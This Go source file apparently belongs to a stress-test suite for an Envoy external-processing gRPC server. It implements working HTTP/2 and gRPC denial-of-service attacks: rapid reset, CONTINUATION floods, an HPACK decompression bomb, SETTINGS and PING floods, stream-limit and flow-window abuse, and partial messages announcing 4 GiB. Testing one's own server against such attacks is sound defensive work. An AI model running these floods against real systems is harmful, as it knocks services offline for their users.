package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"strings"
	"time"

	corev3 "github.com/envoyproxy/go-control-plane/envoy/config/core/v3"
	extprocv3 "github.com/envoyproxy/go-control-plane/envoy/service/ext_proc/v3"
	"golang.org/x/net/http2"

	"github.com/infergate/infergate/bench/extprocload"
)

// target is what an attack is aimed at, and its bounds.
type target struct {
	addr  string
	scale float64
	// until ends the attack's active phase (flooding, opening streams).
	until time.Time
	// hold is how long an attack that leaves streams open keeps them,
	// after its active phase.
	hold time.Duration
	obs  *observer
}

// n scales an attack's count.
func (t target) n(base int) int { return max(1, int(float64(base)*t.scale)) }

func (t target) active() bool { return time.Now().Before(t.until) }

// outcome is what an attack did: volume, in the attack's own unit, says
// it got onto the wire at all (a run that sent nothing measured nothing);
// note is a few words on it for the table.
type outcome struct {
	volume int64
	note   string
}

// attack is one row of the suite.
type attack struct {
	name string
	// does says what the attack sends, for the printed legend.
	does string
	run  func(ctx context.Context, t target) (outcome, error)
}

// attacks is the suite, in the order.
func attacks() []attack {
	return []attack{
		{"rapid-reset", "HEADERS then RST_STREAM(CANCEL) for stream after stream, 100 streams a write, reconnecting when closed (200k × scale streams)", rapidReset},
		{"continuation-large", "HEADERS without END_HEADERS, then 16 KiB CONTINUATION frames of 1 KiB literal header fields, reconnecting when closed (20k × scale frames)", continuationFlood(true)},
		{"continuation-empty", "HEADERS without END_HEADERS, then empty CONTINUATION frames, which never add to the header list (20M × scale frames)", continuationFlood(false)},
		{"hpack-bomb", "a 4,038-byte header inserted into the HPACK dynamic table once, then 16 KiB header blocks of 1-byte references to it (64 MiB decoded each; 2k × scale streams)", hpackBomb},
		{"settings-flood-unread", "SETTINGS frames changing SETTINGS_INITIAL_WINDOW_SIZE, the ACKs never read (1M × scale frames)", controlFlood(http2.FrameSettings, false)},
		{"settings-flood-read", "SETTINGS frames changing SETTINGS_INITIAL_WINDOW_SIZE, the ACKs read (1M × scale frames)", controlFlood(http2.FrameSettings, true)},
		{"ping-flood-unread", "PING frames, the ACKs never read, reconnecting when closed (1M × scale frames)", controlFlood(http2.FramePing, false)},
		{"ping-flood-read", "PING frames, the ACKs read, reconnecting when closed (1M × scale frames)", controlFlood(http2.FramePing, true)},
		{"beyond-max-streams", "streams past SETTINGS_MAX_CONCURRENT_STREAMS (1k × scale more than announced, all of them if none is), each with its request headers message, held open", beyondMaxStreams},
		{"zero-window-hold", "stream window 0 announced, then requests with 32 KiB bodies whose answers can never be sent, held open (200 × scale streams)", zeroWindowHold},
		{"window-violation", "stream window 0 announced (answers pile up), response body chunks sent within the server's windows until it stops granting, then 16 MiB more DATA past them (4 × scale streams)", windowViolation},
		{"length-4gib", "a gRPC message prefix announcing 0xFFFFFFFF bytes and 100 bytes of it, held open (200 × scale streams)",
			partialMessage(200, 0xFFFFFFFF, 100, "announced a 4 GiB message and sent 100 bytes of it")},
		{"announced-unsent", "a gRPC message prefix announcing 4 MiB − 16 bytes and 35 bytes of it, held open (250 × scale streams)",
			partialMessage(250, 4<<20-16, 35, "announced a 4 MiB message and sent 35 bytes of it")},
	}
}

// overConns runs batch on connection after connection (the server may
// close one, or tell it to go away) while more says so and the active
// phase lasts. It returns the connections used, and why a new one could
// not be made if that ended the attack early.
func overConns(ctx context.Context, t target, opts connOptions, more func() bool, batch func(c *rawConn) error) (int, error) {
	conns := 0
	for more() && t.active() && ctx.Err() == nil {
		c, err := dial(ctx, t.addr, t.obs, opts)
		if err != nil {
			return conns, err
		}
		conns++
		for more() && t.active() && c.alive() {
			if err := batch(c); err != nil {
				break
			}
		}
		if opts.sync && c.alive() {
			// Past the active phase, writes would fail at its deadline.
			if dl, ok := ctx.Deadline(); ok {
				_ = c.nc.SetWriteDeadline(dl)
			}
			c.sync(ctx)
		}
		c.close()
	}
	return conns, nil
}

// unreachable is the note for an attack the server stopped taking
// connections from, or the error when it never took one.
func unreachable(conns int, err error) (string, error) {
	if err == nil {
		return "", nil
	}
	if conns == 0 {
		return "", err
	}
	return fmt.Sprintf("; a new connection failed: %v", err), nil
}

func rapidReset(ctx context.Context, t target) (outcome, error) {
	n, sent := t.n(200_000), 0
	start := time.Now()
	conns, err := overConns(ctx, t, connOptions{read: true, sync: true, writeDeadline: t.until}, func() bool { return sent < n }, func(c *rawConn) error {
		for range min(100, n-sent) {
			id := c.id()
			_ = c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block, EndHeaders: true})
			_ = c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
			sent++
		}
		return c.flush()
	})
	tail, err := unreachable(conns, err)
	return outcome{int64(sent), fmt.Sprintf("%d streams opened and reset in %.1f s over %d connections%s", sent, time.Since(start).Seconds(), conns, tail)}, err
}

// literalField is a header field as a literal never indexed with a new
// name and no Huffman coding (RFC 7541 section 6.2.3), so that its length
// on the wire is exactly known.
func literalField(name, value string) []byte {
	b := hpackInt([]byte{0x10, 0}, 7, uint64(len(name)))
	b = append(b, name...)
	b = hpackInt(append(b, 0), 7, uint64(len(value)))
	return append(b, value...)
}

// hpackInt appends v as an HPACK integer with an n-bit prefix to b, whose
// last byte holds the prefix's other bits (RFC 7541 section 5.1).
func hpackInt(b []byte, n uint, v uint64) []byte {
	limit := uint64(1)<<n - 1
	if v < limit {
		b[len(b)-1] |= byte(v)
		return b
	}
	b[len(b)-1] |= byte(limit)
	for v -= limit; v >= 128; v >>= 7 {
		b = append(b, byte(v&0x7f|0x80))
	}
	return append(b, byte(v))
}

// floodFragment is a 16 KiB header block fragment of 16 literal fields
// of 1,024 bytes each, so that every CONTINUATION frame of it ends where
// a field does.
func floodFragment() []byte {
	f := literalField("x-flood", strings.Repeat("f", 1012))
	return bytes.Repeat(f, 16<<10/len(f))
}

func continuationFlood(large bool) func(ctx context.Context, t target) (outcome, error) {
	return func(ctx context.Context, t target) (outcome, error) {
		var frag []byte
		n, perWrite := t.n(20_000_000), 8192
		if large {
			frag, n, perWrite = floodFragment(), t.n(20_000), 8
		}
		sent := 0
		conns, err := overConns(ctx, t, connOptions{read: true, writeDeadline: t.until}, func() bool { return sent < n }, func(c *rawConn) error {
			id := c.id()
			_ = c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block})
			for sent < n && t.active() {
				for range min(perWrite, n-sent) {
					_ = c.fr.WriteContinuation(id, false, frag)
					sent++
				}
				if err := c.flush(); err != nil || !c.alive() {
					return errors.New("connection ended")
				}
			}
			return nil
		})
		tail, err := unreachable(conns, err)
		wire := int64(sent) * int64(9+len(frag))
		return outcome{int64(sent), fmt.Sprintf("%d frames (%s) written over %d connections%s", sent, mib(wire), conns, tail)}, err
	}
}

func maxOf(xs []int64) int64 {
	m := xs[0]
	for _, x := range xs[1:] {
		m = max(m, x)
	}
	return m
}

// bombEntry is the header the HPACK bomb inserts: 4,038 bytes of the
// decoder's default 4,096-byte dynamic table (name, value and 32 bytes of
// overhead), so that it fits and stays the one entry, index 62.
const (
	bombName  = "x-bomb"
	bombValue = 4000
	bombRef   = 0x80 | 62 // an indexed header field, dynamic entry 1
)

// bombInsert is the bomb's entry as a literal with incremental indexing
// and a new name (RFC 7541 section 6.2.1), no Huffman coding.
func bombInsert() []byte {
	b := []byte{0x40, 0}
	b = hpackInt(b, 7, uint64(len(bombName)))
	b = append(b, bombName...)
	b = hpackInt(append(b, 0), 7, bombValue)
	return append(b, strings.Repeat("b", bombValue)...)
}

func hpackBomb(ctx context.Context, t target) (outcome, error) {
	n, sent := t.n(2_000), 0
	var refs int64         // references written, each decoding to the whole entry
	const frame = 16 << 10 // both servers' SETTINGS_MAX_FRAME_SIZE
	insert := bombInsert()
	conns, err := overConns(ctx, t, connOptions{read: true, sync: true, writeDeadline: t.until}, func() bool { return sent < n }, func(c *rawConn) error {
		// The table is the connection's: each new one gets the entry
		// again with its first block.
		for first := true; sent < n && t.active(); first = false {
			for range min(4, n-sent) {
				block := append([]byte(nil), c.block...)
				if first {
					block = append(block, insert...)
					first = false
				}
				refs += int64(frame - len(block))
				block = append(block, bytes.Repeat([]byte{bombRef}, frame-len(block))...)
				_ = c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: c.id(), BlockFragment: block, EndHeaders: true, EndStream: true})
				sent++
			}
			if err := c.flush(); err != nil || !c.alive() {
				return errors.New("connection ended")
			}
		}
		return nil
	})
	tail, err := unreachable(conns, err)
	return outcome{int64(sent), fmt.Sprintf("%d header blocks (%d GiB of header fields once decoded) over %d connections%s", sent, refs*int64(bombValue+len(bombName))>>30, conns, tail)}, err
}

func controlFlood(typ http2.FrameType, read bool) func(ctx context.Context, t target) (outcome, error) {
	return func(ctx context.Context, t target) (outcome, error) {
		n, sent := t.n(1_000_000), 0
		conns, err := overConns(ctx, t, connOptions{read: read, sync: read, writeDeadline: t.until}, func() bool { return sent < n }, func(c *rawConn) error {
			for range min(1000, n-sent) {
				if typ == http2.FramePing {
					var data [8]byte
					binary.BigEndian.PutUint64(data[:], uint64(sent))
					_ = c.fr.WritePing(false, data)
				} else {
					// A real setting, changed every time: the server
					// applies it to every stream of the connection.
					_ = c.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1 - uint32(sent%2)})
				}
				sent++
			}
			return c.flush()
		})
		tail, err := unreachable(conns, err)
		what := "PING"
		if typ == http2.FrameSettings {
			what = "SETTINGS"
		}
		return outcome{int64(sent), fmt.Sprintf("%d %s frames written over %d connections%s", sent, what, conns, tail)}, err
	}
}

// holdOpen keeps an attack's streams open for t.hold after its active
// phase, as an attacker keeps them to hold what they cost the server.
func holdOpen(ctx context.Context, t target) {
	select {
	case <-ctx.Done():
	case <-time.After(t.hold):
	}
}

// openEach opens up to n streams on one connection, writing each one's
// messages within the server's windows, while the active phase lasts;
// it returns the streams opened.
func openEach(ctx context.Context, t target, c *rawConn, n int, msgs ...[]byte) (int, error) {
	// A window the server never grants must not hold the attack past its
	// active phase.
	ctx, cancel := context.WithDeadline(ctx, t.until)
	defer cancel()
	opened := 0
	for opened < n && t.active() && c.alive() {
		id := c.id()
		if err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block, EndHeaders: true}); err != nil {
			return opened, err
		}
		for _, m := range msgs {
			if err := c.send(ctx, id, m); err != nil && !errors.Is(err, errStreamEnded) {
				return opened, err
			}
		}
		opened++
		if err := c.flushFull(); err != nil {
			return opened, err
		}
	}
	return opened, c.flush()
}

// heldNote says how the streams an attack held fared.
func heldNote(t target, opened int, what string) string {
	ended := t.obs.endedCount()
	return fmt.Sprintf("%d streams %s; %d ended by the server, %d still open after the %.1f s hold", opened, what, ended, max(opened-ended, 0), t.hold.Seconds())
}

func beyondMaxStreams(ctx context.Context, t target) (outcome, error) {
	c, err := dial(ctx, t.addr, t.obs, connOptions{read: true})
	if err != nil {
		return outcome{}, err
	}
	defer c.close()
	announced := c.announcedMaxStreams()
	extra := t.n(1_000)
	n, limit := extra, "announces no SETTINGS_MAX_CONCURRENT_STREAMS"
	if announced >= 0 {
		n, limit = int(announced)+extra, fmt.Sprintf("announces SETTINGS_MAX_CONCURRENT_STREAMS %d", announced)
	}
	hm, err := extprocload.Frame(extprocload.HeadersMessage(1024))
	if err != nil {
		return outcome{}, err
	}
	opened, err := openEach(ctx, t, c, n, hm)
	note := ""
	if err != nil {
		note = fmt.Sprintf(" (opening stopped: %v)", err)
	}
	holdOpen(ctx, t)
	return outcome{int64(opened), fmt.Sprintf("the server %s; %s%s", limit, heldNote(t, opened, "opened, each past its request headers"), note)}, nil
}

const victimModel = "meta-llama/Llama-3.1-8B-Instruct"

func zeroWindowHold(ctx context.Context, t target) (outcome, error) {
	req, err := extprocload.Chat(victimModel, 32<<10, 0)
	if err != nil {
		return outcome{}, err
	}
	hm, err := extprocload.Frame(extprocload.HeadersMessage(req.Size()))
	if err != nil {
		return outcome{}, err
	}
	bm, err := extprocload.Frame(&extprocv3.ProcessingRequest{Request: &extprocv3.ProcessingRequest_RequestBody{
		RequestBody: &extprocv3.HttpBody{Body: req.Chunks[0], EndOfStream: true}}})
	if err != nil {
		return outcome{}, err
	}
	c, err := dial(ctx, t.addr, t.obs, connOptions{read: true, zeroWindow: true})
	if err != nil {
		return outcome{}, err
	}
	defer c.close()
	opened, err := openEach(ctx, t, c, t.n(200), hm, bm)
	note := ""
	if err != nil {
		note = fmt.Sprintf(" (opening stopped: %v)", err)
	}
	holdOpen(ctx, t)
	t.obs.mu.Lock()
	got := t.obs.dataBytes
	t.obs.mu.Unlock()
	return outcome{int64(opened), fmt.Sprintf("%s; %s of answers reached us%s", heldNote(t, opened, "sent a 32 KiB request whose answer cannot be sent"), mib(got), note)}, nil
}

// responsePhase are the messages of a request already decided and of its
// response's headers, after which response body chunks may come: the
// payload processor answers each chunk with itself.
func responsePhase() ([][]byte, []byte, error) {
	req, err := extprocload.Chat(victimModel, 1024, 0)
	if err != nil {
		return nil, nil, err
	}
	var out [][]byte
	for _, m := range []*extprocv3.ProcessingRequest{
		extprocload.HeadersMessage(req.Size()),
		{Request: &extprocv3.ProcessingRequest_RequestBody{RequestBody: &extprocv3.HttpBody{Body: req.Chunks[0], EndOfStream: true}}},
		{Request: &extprocv3.ProcessingRequest_ResponseHeaders{ResponseHeaders: &extprocv3.HttpHeaders{Headers: &corev3.HeaderMap{Headers: []*corev3.HeaderValue{
			{Key: ":status", RawValue: []byte("200")}, {Key: "content-type", RawValue: []byte("text/event-stream")}}}}}},
	} {
		b, err := extprocload.Frame(m)
		if err != nil {
			return nil, nil, err
		}
		out = append(out, b)
	}
	chunk, err := extprocload.Frame(&extprocv3.ProcessingRequest{Request: &extprocv3.ProcessingRequest_ResponseBody{
		ResponseBody: &extprocv3.HttpBody{Body: bytes.Repeat([]byte("data: {\"choices\":[{\"delta\":{\"content\":\"token \"}}]}\n\n"), 64<<10/48)}}})
	return out, chunk, err
}

func windowViolation(ctx context.Context, t target) (outcome, error) {
	setup, chunk, err := responsePhase()
	if err != nil {
		return outcome{}, err
	}
	const excess = 16 << 20
	// stall is how long the server may grant nothing before it is taken
	// to have stopped granting (its windows are spent).
	const stall = 300 * time.Millisecond
	streams := t.n(4)
	var (
		c        *rawConn
		pushed   int64 // DATA written past the windows, all streams
		reacted  []int64
		inWindow int64 // DATA written within the windows
		done     int
		conns    int
	)
	defer func() {
		if c != nil {
			c.close()
		}
	}()
	for done < streams && t.active() {
		if c == nil || !c.alive() {
			if c != nil {
				c.close()
			}
			if c, err = dial(ctx, t.addr, t.obs, connOptions{read: true, zeroWindow: true}); err != nil {
				tail, err := unreachable(conns, err)
				return outcome{pushed, fmt.Sprintf("%s past the windows%s", mib(pushed), tail)}, err
			}
			conns++
		}
		done++
		id := c.id()
		_ = c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.block, EndHeaders: true})
		for _, m := range setup {
			if err := c.send(ctx, id, m); err != nil {
				break
			}
		}
		// Within the windows, until the server stops granting: the
		// answers it cannot send (our window is 0) hold its credit back.
		var rest []byte
		for t.active() {
			if len(rest) == 0 {
				rest = chunk
			}
			n, err := c.take(ctx, id, len(rest), stall)
			if err != nil || n == 0 {
				break
			}
			_ = c.fr.WriteData(id, false, rest[:n])
			rest = rest[n:]
			inWindow += int64(n)
			if err := c.flushFull(); err != nil {
				break
			}
		}
		if c.streamEnded(id) || !c.alive() {
			continue // the server ended it before its windows ran out
		}
		// Past them: the server must reset the stream or close the
		// connection, not hold what it never granted.
		var over int64
		for over < excess && t.active() && !c.streamEnded(id) && c.alive() {
			for range 16 {
				if len(rest) == 0 {
					rest = chunk
				}
				n := min(len(rest), 16<<10)
				_ = c.fr.WriteData(id, false, rest[:n])
				rest = rest[n:]
				over += int64(n)
			}
			if err := c.flush(); err != nil {
				break
			}
		}
		pushed += over
		if c.streamEnded(id) || c.serverEnded() {
			reacted = append(reacted, over)
		}
	}
	note := fmt.Sprintf("%d streams over %d connections: %s within the windows, then %s past them", done, conns, mib(inWindow), mib(pushed))
	if len(reacted) > 0 {
		note += fmt.Sprintf("; %d of them stopped by the server, each after we had written at most %s past", len(reacted), mib(maxOf(reacted)))
	}
	return outcome{inWindow + pushed, note}, nil
}

// partialMessage opens streams each sending the start of a gRPC message
// that announces size bytes: its prefix and have bytes of it.
func partialMessage(base int, size uint32, have int, what string) func(ctx context.Context, t target) (outcome, error) {
	return func(ctx context.Context, t target) (outcome, error) {
		msg := make([]byte, 5+have)
		binary.BigEndian.PutUint32(msg[1:5], size)
		c, err := dial(ctx, t.addr, t.obs, connOptions{read: true})
		if err != nil {
			return outcome{}, err
		}
		defer c.close()
		opened, err := openEach(ctx, t, c, t.n(base), msg)
		note := ""
		if err != nil {
			note = fmt.Sprintf(" (opening stopped: %v)", err)
		}
		holdOpen(ctx, t)
		return outcome{int64(opened), heldNote(t, opened, what) + note}, nil
	}
}
